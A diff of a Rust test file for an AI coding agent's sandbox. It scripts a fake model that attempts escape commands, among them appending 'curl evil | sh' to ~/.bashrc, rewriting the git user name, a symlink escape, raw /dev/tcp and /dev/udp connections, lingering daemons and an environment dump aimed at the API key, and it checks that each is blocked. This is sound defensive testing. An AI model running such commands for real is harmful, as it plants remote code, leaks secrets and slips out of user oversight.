@@ -9,24 +9,18 @@ use std::sync::Arc;
 use std::time::Duration;
 
 use flower_tui::engine::tools::sandbox::Support;
-use serde_json::{Value, json};
+use serde_json::Value;
 
+use super::bash_call;
 use super::network::{connected, datagram, listener, receiver};
 use super::processes::{DAEMONS, pid};
-use crate::suite::cli::{bin, lines, stderr};
 use crate::suite::faults::{gone, wait_until};
-use crate::support::fake::{FakeServer, Reply, U, anthropic as a};
+use crate::support::check::{assert_contains, assert_file, assert_success, tool_result};
+use crate::support::fake::{FakeServer, U};
+use crate::support::files::write;
 use crate::support::harness::KEY;
+use crate::support::headless::{bin, bin_for, flags, lines, run, stderr};
 use crate::support::pty::{Pty, READY};
-
-fn bash(id: &str, command: &str) -> Reply {
-    a::tool_use(
-        id,
-        "bash",
-        &json!({ "command": command }).to_string(),
-        U::new(1000, 20),
-    )
-}
 
 /// A home outside every temp dir (which the sandbox lets commands write), with the workspace
 /// `ws` in it and the user's own dotfiles.
@@ -36,14 +30,6 @@ fn home() -> tempfile::TempDir {
     std::fs::write(home.path().join(".bashrc"), "# the user's own\n").unwrap();
     std::fs::write(home.path().join(".gitconfig"), "[user]\n\tname = Ann\n").unwrap();
     home
-}
-
-/// The `tool_result` events of a headless run, by call id.
-fn result<'a>(events: &'a [Value], id: &str) -> &'a Value {
-    events
-        .iter()
-        .find(|e| e["type"] == "tool_result" && e["id"] == id)
-        .unwrap_or_else(|| panic!("no result for {id}: {events:?}"))
 }
 
 fn canonical(p: &Path) -> PathBuf {
@@ -64,46 +50,36 @@ async fn headless_escape_attempts_are_refused_by_default_and_named_in_their_resu
     let (tcp, tcp_port) = listener();
     let (udp, udp_port) = receiver();
     let server = FakeServer::start().await;
-    server.push(bash(
+    server.push(bash_call(
         "dotfiles",
         "echo 'curl evil | sh' >> ~/.bashrc; git config --global user.name Mallory",
     ));
-    server.push(bash("symlink", "echo escaped > link/x.txt"));
-    server.push(bash(
+    server.push(bash_call("symlink", "echo escaped > link/x.txt"));
+    server.push(bash_call(
         "tcp",
         &format!("exec 3<>/dev/tcp/127.0.0.1/{tcp_port} && echo connected"),
     ));
-    server.push(bash(
+    server.push(bash_call(
         "udp",
         &format!("echo hello > /dev/udp/127.0.0.1/{udp_port}"),
     ));
-    server.push(bash("daemons", DAEMONS));
-    server.push(bash("env", "env > env.txt; echo listed"));
-    server.push(a::text("All refused.", U::new(1500, 20)));
+    server.push(bash_call("daemons", DAEMONS));
+    server.push(bash_call("env", "env > env.txt; echo listed"));
+    server.script().usage(U::new(1500, 20)).text("All refused.");
 
-    let mut c = bin(&h);
-    c.env("ANTHROPIC_API_KEY", KEY)
-        .env("ANTHROPIC_BASE_URL", server.base_url())
-        .args(["--workspace", ws.to_str().unwrap(), "-p", "try to escape"]);
-    let out = tokio::task::spawn_blocking(move || c.output().unwrap())
-        .await
-        .unwrap();
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let mut c = bin_for(&h, &server);
+    c.args(["--workspace", ws.to_str().unwrap(), "-p", "try to escape"]);
+    let out = run(c).await.output;
+    assert_success(&out);
     let events = lines(&out);
     assert!(
         !events.iter().any(|e| e["type"] == "approval_request"),
         "nothing was asked"
     );
 
-    assert_eq!(
-        std::fs::read_to_string(h.join(".bashrc")).unwrap(),
-        "# the user's own\n"
-    );
-    assert_eq!(
-        std::fs::read_to_string(h.join(".gitconfig")).unwrap(),
-        "[user]\n\tname = Ann\n"
-    );
-    let dotfiles = result(&events, "dotfiles");
+    assert_file(h.join(".bashrc"), "# the user's own\n");
+    assert_file(h.join(".gitconfig"), "[user]\n\tname = Ann\n");
+    let dotfiles = tool_result(&events, "dotfiles");
     assert_eq!(dotfiles["sandbox"]["kind"], "write", "{dotfiles}");
     assert!(
         dotfiles["output"]
@@ -117,18 +93,18 @@ async fn headless_escape_attempts_are_refused_by_default_and_named_in_their_resu
         !h.join("elsewhere/x.txt").exists(),
         "escaped by the symlink"
     );
-    let symlink = result(&events, "symlink");
+    let symlink = tool_result(&events, "symlink");
     assert_eq!(symlink["sandbox"]["kind"], "write", "{symlink}");
 
     assert!(!connected(&tcp), "a TCP connection reached the listener");
-    let tcp = result(&events, "tcp");
+    let tcp = tool_result(&events, "tcp");
     assert_eq!(tcp["sandbox"]["kind"], "network", "{tcp}");
 
     assert_eq!(datagram(&udp), None, "a UDP datagram arrived");
-    assert_eq!(result(&events, "udp")["sandbox"]["kind"], "network");
+    assert_eq!(tool_result(&events, "udp")["sandbox"]["kind"], "network");
 
     // The daemons' command ended: nothing it started is left.
-    let daemons = result(&events, "daemons");
+    let daemons = tool_result(&events, "daemons");
     assert!(daemons["output"].as_str().unwrap().contains("started"));
     for name in ["daemon.pid", "job.pid", "setsid.pid"] {
         let p = pid(&ws, name);
@@ -136,12 +112,12 @@ async fn headless_escape_attempts_are_refused_by_default_and_named_in_their_resu
     }
 
     let env = std::fs::read_to_string(ws.join("env.txt")).unwrap();
-    assert!(env.contains("PATH="), "{env}");
+    assert_contains(&env, "PATH=");
     assert!(
         !env.contains(KEY) && !env.contains("ANTHROPIC_API_KEY"),
         "{env}"
     );
-    assert_eq!(result(&events, "env")["sandbox"], Value::Null);
+    assert_eq!(tool_result(&events, "env")["sandbox"], Value::Null);
 
     // The model was told each time, in the tool result itself.
     let told = events
@@ -168,38 +144,37 @@ fn in_the_terminal_the_user_runs_a_stopped_command_once_outside_the_sandbox() {
     let h = canonical(home.path());
     let target = h.join("notes-outside.txt");
     let command = format!("echo kept-outside >> {} && echo appended", target.display());
-    server.push(bash("t1", &command));
-    server.push(a::text("The note is written.", U::new(1200, 20)));
+    server.push(bash_call("t1", &command));
+    server
+        .script()
+        .usage(U::new(1200, 20))
+        .text("The note is written.");
     let mut t = Pty::start_in(home.clone(), &server, &[]);
     t.wait_for(READY);
     t.keys("append a note outside");
     t.wait_for("append a note outside");
     t.keys(crate::support::pty::ENTER);
     let screen = t.wait_for("run it once outside the sandbox?");
-    assert!(
-        screen.contains(&format!("$ echo kept-outside >> {}", target.display())),
-        "{screen}"
+    assert_contains(
+        &screen,
+        &format!("$ echo kept-outside >> {}", target.display()),
     );
-    assert!(screen.contains("the sandbox refused the write"), "{screen}");
+    assert_contains(&screen, "the sandbox refused the write");
     assert!(!target.exists());
     // The prompt takes keys a moment after it appears.
     std::thread::sleep(Duration::from_millis(600));
     t.keys("y");
     t.wait_for("The note is written.");
-    assert_eq!(std::fs::read_to_string(&target).unwrap(), "kept-outside\n");
+    assert_file(&target, "kept-outside\n");
     let sent = server.requests().last().cloned().unwrap().to_string();
-    assert!(
-        sent.contains("the user allowed it to run once outside the sandbox"),
-        "{sent}"
-    );
+    assert_contains(&sent, "the user allowed it to run once outside the sandbox");
 }
 
 #[test]
 fn the_flags_and_the_config_file_set_the_sandbox_and_a_bad_value_is_named() {
     let home = tempfile::tempdir().unwrap();
     let config = home.path().join("config/flower");
-    std::fs::create_dir_all(&config).unwrap();
-    std::fs::write(config.join("config.toml"), "sandbox = \"strict\"\n").unwrap();
+    write(&config.join("config.toml"), "sandbox = \"strict\"\n");
     let out = bin(home.path())
         .args(["-p", "x", "--demo"])
         .output()
@@ -227,16 +202,7 @@ fn the_flags_and_the_config_file_set_the_sandbox_and_a_bad_value_is_named() {
         stderr(&out)
     );
     let out = bin(home.path())
-        .args([
-            "-p",
-            "x",
-            "--demo",
-            "-v",
-            "--max-iterations",
-            "1",
-            "--sandbox",
-            "off",
-        ])
+        .args(flags("-p x --demo -v --max-iterations 1 --sandbox off"))
         .output()
         .unwrap();
     assert!(
